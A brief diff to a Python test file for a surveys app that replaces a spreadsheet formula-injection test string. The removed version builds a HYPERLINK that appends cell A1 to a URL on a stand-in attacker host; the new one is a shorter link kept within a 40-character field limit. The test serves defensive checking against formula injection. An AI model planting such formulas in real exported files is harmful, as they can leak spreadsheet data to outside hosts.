@@ -12,7 +12,7 @@ import pytest
 
 from surveys.models import utcnow
 
-EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+EVIL = '=HYPERLINK("http://e.example","x")'  # a touchpoint code is at most 40 characters
 
 
 @pytest.fixture
